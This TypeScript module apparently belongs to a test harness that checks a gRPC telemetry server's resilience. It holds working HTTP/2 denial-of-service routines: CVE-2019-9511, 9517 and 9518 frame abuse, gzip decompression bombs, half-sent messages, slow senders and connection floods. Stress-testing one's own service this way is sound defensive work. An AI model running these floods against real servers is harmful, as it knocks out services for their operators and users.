/**
 * DATA in shapes that cost the server more than they carry, and calls that are slow or half said.
 *
 * @module
 */
import { gzipSync } from "node:zlib";

import { streamBatches, streamPackets } from "../../src/protocol/telemetry_proto.ts";
import { headerBlock, preface, requestHeaders } from "../http2/raw_connection.ts";
import { frame, joined, settings, windowUpdate } from "../support/http2_frames.ts";
import {
  CONTINUATION,
  DATA,
  END_STREAM,
  FRAME_HEADER_BYTES,
  HEADERS,
  INITIAL_WINDOW_SIZE,
  MAX_WINDOW_BYTES,
  PADDED,
} from "../support/http2_numbers.ts";
import type { AttackConnection } from "./attack_connection.ts";
import { type Attack, type Attacker, BATCHES_PATH, MAY_BE_COUNTED, PACKETS_PATH } from "./attacker.ts";
import { messageFrame, openCalls, streamIds, volley, widestWindow } from "./frames.ts";

const MAX_MESSAGE_BYTES = 4 * 2 ** 20;

const packet = streamPackets.requestSerialize({
  device_id: `${MAY_BE_COUNTED}device`,
  timestamp: 1_700_000_000,
  payload: new Uint8Array(16),
});

function batchOf(count: number, deviceId: () => string): Uint8Array {
  const packets = Array.from({ length: count }, () => ({
    device_id: deviceId(),
    timestamp: 1_700_000_000,
    payload: new Uint8Array(4),
  }));
  return streamBatches.requestSerialize({ packets });
}

const randomDevice = () => MAY_BE_COUNTED + crypto.randomUUID();

/** One packet with a payload of 4 MiB, less its frame; its payload is over the limit, its message is not. */
function inflatingMessage(): Uint8Array {
  const overhead = 32;
  const message = streamPackets.requestSerialize({
    device_id: `${MAY_BE_COUNTED}gzip`,
    timestamp: 0,
    payload: new Uint8Array(MAX_MESSAGE_BYTES - overhead),
  });
  return gzipSync(message, { level: 9 });
}

/** One byte of a stream's messages per frame, as the windows allow. */
async function oneByteFrames(connection: AttackConnection): Promise<void> {
  const message = messageFrame(1, packet).subarray(FRAME_HEADER_BYTES), perWrite = 20;
  const frames = joined(...Array.from(message, (byte) => frame(DATA, 0, 1, [byte])));
  const write = joined(...Array.from({ length: perWrite }, () => frames));
  await connection.send(requestHeaders(1, PACKETS_PATH));
  while (connection.open) {
    if (connection.room(1) < message.length * perWrite) {
      await connection.roomChanged();
      continue;
    }
    connection.use(1, message.length * perWrite);
    connection.attacker.validPackets += perWrite;
    await connection.send(write);
  }
}

/** Sends in all of `streamIds` at once what `bytes` is, as the windows allow. */
async function halfMessages(
  connection: AttackConnection,
  ids: readonly number[],
  bytes: number,
): Promise<void> {
  const prefix = new Uint8Array(5);
  new DataView(prefix.buffer).setUint32(1, MAX_MESSAGE_BYTES);
  const start = joined(prefix, new Uint8Array(bytes));
  await Promise.all(ids.map((id) => connection.data(id, start)));
}

/** CVE-2019-9511: answers that may leave one byte at a time, on many streams. */
async function dribble(attacker: Attacker, connection: AttackConnection): Promise<void> {
  const ids = streamIds(1000), batch = batchOf(1, () => `${MAY_BE_COUNTED}dribble`);
  await connection.send(settings([INITIAL_WINDOW_SIZE, 0]));
  await openCalls(connection, BATCHES_PATH, ids.length);
  attacker.validPackets += ids.length;
  await connection.send(...ids.map((id) => messageFrame(id, batch)));
  await connection.flood(joined(...ids.map((id) => windowUpdate(id, 1))));
}

/** CVE-2019-9517: HTTP/2 windows wide open, and nothing read from the socket. */
async function unreadAnswers(attacker: Attacker): Promise<void> {
  while (!attacker.over) {
    using connection = await attacker.connect({ reads: false });
    if (connection === undefined) continue;
    const ids = streamIds(100), batch = batchOf(1, () => `${MAY_BE_COUNTED}unread`);
    await connection.send(settings([INITIAL_WINDOW_SIZE, MAX_WINDOW_BYTES]), widestWindow);
    await openCalls(connection, BATCHES_PATH, ids.length);
    // What the first window takes; of more it would be told by what it does not read.
    for (let round = 0; round < 20 && connection.open; round++) {
      attacker.validPackets += ids.length;
      await connection.send(...ids.map((id) => messageFrame(id, batch)));
      await attacker.wait(20);
    }
    // Each of these is answered with trailers at once.
    for (let id = 2 * ids.length + 1; connection.open; id += 400) {
      await connection.send(...streamIds(200, id).map((call) => requestHeaders(call, "/no.such/Method")));
    }
  }
}

/** As many connections of each slow kind as are asked for, and a byte more of each now and then. */
async function slowSenders(attacker: Attacker): Promise<void> {
  const perKind = 100, intervalMs = Math.min(9000, attacker.durationMs / 4);
  const block = headerBlock(PACKETS_PATH, { "x-slow": "y".repeat(200) });
  const header = frame(HEADERS, 0, 1, block).subarray(0, FRAME_HEADER_BYTES);
  const message = new Uint8Array(5);
  new DataView(message.buffer).setUint32(1, 1000);
  const kinds = [
    { first: new Uint8Array(0), rest: preface },
    { first: joined(preface, header), rest: Uint8Array.from(block) },
    {
      first: joined(preface, frame(HEADERS, 0, 1, block.slice(0, 50))),
      rest: frame(CONTINUATION, 0, 1, block),
    },
    {
      first: joined(preface, requestHeaders(1, PACKETS_PATH), frame(DATA, 0, 1, [...message])),
      rest: frame(DATA, 0, 1, new Uint8Array(1000)),
    },
  ];
  const held: { connection: AttackConnection; rest: Uint8Array }[] = [];
  for (const { first, rest } of kinds) {
    for (let i = 0; i < perKind; i++) {
      const connection = await attacker.connect({ sendsPreface: false });
      if (connection === undefined) continue;
      await connection.send(first);
      held.push({ connection, rest });
    }
  }
  for (let at = 0; !attacker.over; at++) {
    for (const { connection, rest } of held) await connection.send(rest.subarray(at, at + 1));
    await attacker.wait(intervalMs);
  }
}

function connectionFlood(count: number, first: Uint8Array): (attacker: Attacker) => Promise<void> {
  return async (attacker) => {
    for (let i = 0; i < count && !attacker.over; i++) {
      const connection = await attacker.connect({ sendsPreface: false });
      if (first.length > 0) await connection?.send(first);
    }
  };
}

/** See the module. */
export const dataAttacks: readonly Attack[] = [
  {
    name: "DATA frames of one byte",
    run: (attacker) => attacker.repeat(oneByteFrames),
  },
  {
    name: "DATA frames of no byte (CVE-2019-9518)",
    mustEnd: true,
    run: (attacker) =>
      attacker.repeat(async (connection) => {
        await connection.send(requestHeaders(1, PACKETS_PATH));
        await connection.flood(volley(frame(DATA, 0, 1)));
      }),
  },
  {
    name: "DATA frames of padding alone",
    run: (attacker) =>
      attacker.repeat(async (connection) => {
        await connection.send(requestHeaders(1, PACKETS_PATH));
        const write = volley(frame(DATA, PADDED, 1, [0])), bytes = write.length / 10;
        while (connection.open) {
          if (connection.room(1) < bytes) await connection.roomChanged();
          else {
            connection.use(1, bytes);
            await connection.send(write);
          }
        }
      }),
  },
  {
    name: "Answers read one byte at a time (CVE-2019-9511)",
    run: (attacker) => attacker.repeat((connection) => dribble(attacker, connection)),
  },
  { name: "Answers not read (CVE-2019-9517)", run: unreadAnswers },
  {
    name: "240 gzip messages that inflate to 4 MiB each, per connection",
    run: (attacker) =>
      attacker.repeat(async (connection) => {
        const message = inflatingMessage(), ids = streamIds(240);
        const call = (id: number) => [
          requestHeaders(id, PACKETS_PATH, { "grpc-encoding": "gzip" }),
          messageFrame(id, message, { compressed: true, flags: END_STREAM }),
        ];
        await connection.send(...ids.flatMap(call));
        while (connection.open && connection.outcomes.size < ids.length) await connection.roomChanged();
      }),
  },
  {
    name: "250 calls with 3.9 MiB of a message of 4 MiB each",
    async run(attacker) {
      const connection = await attacker.connect();
      if (connection === undefined) return;
      const ids = streamIds(250);
      await openCalls(connection, PACKETS_PATH, ids.length);
      await halfMessages(connection, ids, Math.floor(3.9 * 2 ** 20));
    },
  },
  {
    name: "50 connections of 20 calls with 1 MiB of a message of 4 MiB each",
    async run(attacker) {
      await Promise.all(Array.from({ length: 50 }, async () => {
        const connection = await attacker.connect();
        if (connection === undefined) return;
        const ids = streamIds(20);
        await openCalls(connection, PACKETS_PATH, ids.length);
        await halfMessages(connection, ids, 2 ** 20);
      }));
    },
  },
  {
    name: "Packets of random device ids at full speed",
    run: (attacker) =>
      attacker.repeat(async (connection) => {
        await connection.send(requestHeaders(1, BATCHES_PATH));
        const packets = 200;
        while (connection.open) {
          const bytes = messageFrame(1, batchOf(packets, randomDevice)).subarray(FRAME_HEADER_BYTES);
          attacker.validPackets += packets;
          if (!await connection.data(1, bytes)) return;
        }
      }),
  },
  {
    name: "Slow senders: 400 connections, a byte every nine seconds",
    timeFactor: 6,
    run: slowSenders,
  },
  { name: "2,000 connections that send nothing", run: connectionFlood(2000, new Uint8Array(0)) },
  {
    name: "2,000 connections that send half a preface",
    run: connectionFlood(2000, preface.subarray(0, 12)),
  },
  {
    name: "Connections opened and dropped at full speed",
    run: (attacker) => attacker.repeat(() => Promise.resolve()),
  },
];
